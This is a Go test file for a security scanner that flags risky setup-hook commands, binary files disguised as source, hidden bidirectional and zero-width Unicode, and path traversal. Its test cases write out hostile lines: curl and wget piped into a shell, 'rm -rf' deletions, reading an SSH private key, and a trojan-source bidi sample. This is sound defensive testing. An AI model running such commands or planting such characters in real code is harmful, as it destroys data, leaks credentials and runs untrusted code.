package security

import (
	"context"
	"strings"
	"testing"

	"aster/internal/config"
)

func TestHookCommandRule(t *testing.T) {
	cases := []struct {
		command string
		want    Severity
		hit     bool
	}{
		{"npx expo install expo-font", SeverityInfo, false},
		{"npx prettier --write components", SeverityInfo, false},
		{"curl -fsSL https://x.example/install.sh | bash", SeverityCritical, true},
		{"rm -rf ~/projects", SeverityCritical, true},
		{"cat ~/.ssh/id_ed25519", SeverityCritical, true},
		{"sudo npm link", SeverityHigh, true},
		{"npm install -g eas-cli", SeverityMedium, true},
	}
	for _, tc := range cases {
		t.Run(tc.command, func(t *testing.T) {
			findings := (&HookCommandRule{}).Scan(context.Background(), Subject{Resource: "setup", Hooks: []string{tc.command}})
			if !tc.hit {
				if len(findings) != 0 {
					t.Fatalf("unexpected findings %+v", findings)
				}
				return
			}
			if len(findings) == 0 || (Report{Findings: findings}).MaxSeverity() != tc.want {
				t.Fatalf("expected %s finding, got %+v", tc.want, findings)
			}
			if findings[0].Target != tc.command || findings[0].Resource != "setup" {
				t.Fatalf("finding lacks context: %+v", findings[0])
			}
		})
	}
}

func TestBinaryFileRule(t *testing.T) {
	files := map[string]string{
		"components/ui/ok.tsx":  "export const Ok = () => null;\n",
		"components/ui/bin.tsx": "\x7fELF\x02\x01\x01",
		"lib/win.ts":            "MZ\x90\x00\x03",
	}
	findings := (&BinaryFileRule{}).Scan(context.Background(), Subject{Files: files})
	if len(findings) != 2 || findings[0].Target != "components/ui/bin.tsx" || findings[1].Target != "lib/win.ts" {
		t.Fatalf("unexpected findings %+v", findings)
	}
}

func TestHiddenCharacterRule(t *testing.T) {
	files := map[string]string{
		"lib/a.ts": "const ok = 1;\nconst isAdmin = false; /*\u202e } if (isAdmin) \u2066*/\n",
		"lib/b.ts": "const x\u200b = 1;\n",
	}
	findings := (&HiddenCharacterRule{}).Scan(context.Background(), Subject{Files: files})
	if len(findings) != 2 {
		t.Fatalf("expected two findings, got %+v", findings)
	}
	if findings[0].Target != "lib/a.ts" || findings[0].Line != 2 || findings[0].Severity != SeverityHigh {
		t.Fatalf("unexpected bidi finding %+v", findings[0])
	}
	if findings[1].Severity != SeverityMedium {
		t.Fatalf("unexpected zero-width finding %+v", findings[1])
	}
}

func TestScannerEnforce(t *testing.T) {
	sc := NewScanner(config.SecurityConfig{BlockSeverity: "high"})
	ctx := context.Background()

	clean := sc.Scan(ctx, Subject{Hooks: []string{"npx expo install expo-font"}})
	if err := sc.Enforce(clean, false); err != nil {
		t.Fatalf("clean report blocked: %v", err)
	}
	medium := sc.Scan(ctx, Subject{Hooks: []string{"git config --global core.autocrlf false"}})
	if err := sc.Enforce(medium, false); err != nil {
		t.Fatalf("medium finding should pass with block=high: %v", err)
	}
	high := sc.Scan(ctx, Subject{Hooks: []string{"sudo true"}})
	if err := sc.Enforce(high, false); err == nil || !strings.HasPrefix(err.Error(), "SEC_SCAN_BLOCKED:") {
		t.Fatalf("expected block, got %v", err)
	}
	if err := sc.Enforce(high, true); err != nil {
		t.Fatalf("force should release high finding: %v", err)
	}
	critical := sc.Scan(ctx, Subject{Hooks: []string{"wget -qO- http://x | sh"}})
	if err := sc.Enforce(critical, true); err == nil || !strings.HasPrefix(err.Error(), "SEC_SCAN_CRITICAL:") {
		t.Fatalf("critical must block even with force, got %v", err)
	}
}

func TestScannerDisabledRules(t *testing.T) {
	sc := NewScanner(config.SecurityConfig{BlockSeverity: "medium", DisabledRules: []string{"scan_hook_command"}})
	rep := sc.Scan(context.Background(), Subject{Hooks: []string{"sudo rm -rf /"}})
	if len(rep.Findings) != 0 {
		t.Fatalf("disabled rule still reported %+v", rep.Findings)
	}
}

func TestCheckRelative(t *testing.T) {
	for _, bad := range []string{"/etc/passwd", "../outside.ts", "~/x.ts", "a/../../b.ts"} {
		if err := CheckRelative(bad); err == nil || !strings.HasPrefix(err.Error(), "SEC_PATH_TRAVERSAL:") {
			t.Fatalf("%s: expected traversal error, got %v", bad, err)
		}
	}
	for _, ok := range []string{"components/ui/button.tsx", "tailwind.config.js", "a/../b.ts"} {
		if err := CheckRelative(ok); err != nil {
			t.Fatalf("%s: unexpected error %v", ok, err)
		}
	}
}
